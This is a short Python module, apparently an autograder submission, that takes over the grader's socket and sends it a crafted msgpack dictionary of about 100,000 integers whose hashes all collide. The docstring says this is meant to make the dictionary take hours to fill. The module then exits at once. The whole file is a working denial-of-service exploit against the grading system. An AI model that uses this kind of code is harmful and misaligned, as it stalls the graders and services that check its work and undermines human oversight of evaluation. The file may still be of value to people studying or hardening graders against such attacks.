"""Answers with a dict whose keys all have the same hash, so that filling it takes hours."""

import gc
import os
import socket

import msgpack

from grader.channel import send_frame

EXERCISE = "any"
LINK = next(each for each in gc.get_objects() if isinstance(each, socket.socket))


def __getattr__(name):
    items = []
    for number in range(1, 100_000):
        items += [["int", hex(number * ((1 << 61) - 1) << 61)], None]
    send_frame(LINK, b"a\2\0\0\0" + msgpack.packb([[], ["dict", *items]]))
    os._exit(0)
